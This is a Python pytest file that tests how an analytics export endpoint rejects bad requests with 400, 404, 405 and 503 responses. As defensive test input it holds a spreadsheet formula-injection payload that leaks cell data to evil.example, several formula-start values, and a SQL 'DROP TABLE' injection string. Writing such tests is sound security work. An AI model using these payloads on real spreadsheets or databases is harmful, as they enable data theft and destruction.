"""Every refusal of the export: 400 naming the parameter, 404, 405, 503."""

from __future__ import annotations

import json
from typing import Any

import pytest
from rbm_analytics.core import clients
from rbm_analytics.core.config import get_settings
from rbm_analytics.core.http import Request
from rbm_analytics.export import routes as export
from rbm_analytics_dev.local.emulators import free_port

from tests.export_data import Warehouse, daily

BAD_REQUESTS = [
    ({"metrics": "sent,bogus"}, "bogus"),
    ({"metrics": "sent,,read"}, "metrics"),
    ({"metrics": "sent,sent"}, "sent"),
    ({"metrics": "date"}, "date"),
    ({"metrics": "SENT"}, "SENT"),
    ({"scale": "year"}, "scale"),
    ({"format": "xlsx"}, "format"),
    ({"start": "2026-02-30"}, "start"),
    ({"start": "20260101"}, "start"),
    ({"end": "yesterday"}, "end"),
    ({"start": "2026-01-02", "end": "2026-01-01"}, "after end"),
    ({"start": "2023-01-01", "end": "2026-01-01"}, "1097 days"),
    ({"metric": "read"}, "metric"),
    ({"agent": "x" * 300}, "agent"),
    ({"agent": "a\x00b"}, "agent"),
    # Only what ingest accepts as an agent id: nothing that starts a formula.
    ({"agent": '=HYPERLINK("http://evil.example/?"&A1,"Open")'}, "agent must be a valid agent id"),
    ({"agent": "+1-2"}, "agent must be a valid agent id"),
    ({"agent": "@SUM(A1)"}, "agent must be a valid agent id"),
    ({"agent": "-acme"}, "agent must be a valid agent id"),
    ({"agent": "acme agent"}, "agent must be a valid agent id"),
    ({"agent": "__acme__"}, "agent must be a valid agent id"),
    # Dates past what a calendar can hold are a 400, never an overflow.
    ({"end": "0001-01-05"}, "end"),
    ({"start": "9999-12-31"}, "start"),
    ({"start": "0001-01-01"}, "start"),
    ({"end": "2026-00-10"}, "end"),
    ({"end": "2025-02-29"}, "end"),
]


@pytest.mark.parametrize(("params", "named"), BAD_REQUESTS)
def test_bad_parameter_is_400_naming_it(
    offline_client: Any, params: dict[str, str], named: str
) -> None:
    resp = offline_client.get(
        "/", query_string={"start": "2026-01-01", "end": "2026-01-05", **params}
    )
    assert resp.status_code == 400
    assert resp.content_type == "application/json"
    assert named in resp.get_json()["error"]


def test_three_years_with_a_leap_day_is_allowed(export_client: Any, warehouse: Warehouse) -> None:
    warehouse.load("daily_metrics", [daily("2024-02-29", "acme", sent=1)])
    resp = export_client.get(
        "/", query_string={"start": "2023-01-01", "end": "2025-12-31", "scale": "month"}
    )
    assert resp.status_code == 200, resp.data
    assert resp.data.count(b"\r\n") == 1 + 36
    assert b"2024-02-01,acme,1,0,0\r\n" in resp.data


def test_empty_values_mean_the_defaults(export_client: Any, warehouse: Warehouse) -> None:
    warehouse.load("daily_metrics", [daily("2026-01-01", "acme", sent=1)])
    resp = export_client.get(
        "/",
        query_string={"start": "2026-01-01", "end": "2026-01-01", "metrics": "", "agent": "",
                      "scale": "", "format": ""},
    )  # fmt: skip
    assert resp.data == b"date,agent_id,sent,delivered,read\r\n2026-01-01,acme,1,0,0\r\n"


def test_other_methods_are_405(offline_client: Any) -> None:
    resp = offline_client.post("/", data=b"{}")
    assert resp.status_code == 405
    assert resp.headers["Allow"] == "GET"
    assert "POST" in resp.get_json()["error"]


def test_unknown_path_is_404(offline_client: Any) -> None:
    resp = offline_client.get("/export.csv")
    assert resp.status_code == 404
    # The path is not echoed (it could hold anything); the error names the routes.
    error = resp.get_json()["error"]
    assert "/export.csv" not in error
    assert "/agents" in error


def test_missing_tables_are_503(export_client: Any, warehouse: Warehouse) -> None:
    warehouse.client.delete_table(warehouse.table("daily_metrics"))
    resp = export_client.get("/", query_string={"start": "2026-01-01", "end": "2026-01-02"})
    assert resp.status_code == 503
    assert "refresh" in resp.get_json()["error"]


def test_unreachable_bigquery_is_503(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BIGQUERY_EMULATOR_HOST", f"127.0.0.1:{free_port()}")
    clients.reset()
    request = Request("GET", "/", {}, query={"start": "2026-01-01", "end": "2026-01-02"})
    # A short retry deadline: the default retries transient errors for 30 s.
    resp = export.handle(request, get_settings(), clients.bigquery_client, retry_deadline_s=1.0)
    assert resp.status == 503
    assert json.loads(resp.body) == {"error": "BigQuery is unavailable; retry later"}


def test_invalid_dataset_setting_is_503_and_never_reaches_sql(
    offline_client: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BQ_DATASET", "x`; DROP TABLE y; --")
    clients.reset()
    resp = offline_client.get("/", query_string={"start": "2026-01-01", "end": "2026-01-02"})
    assert resp.status_code == 503
    assert "BQ_DATASET" in resp.get_json()["error"]
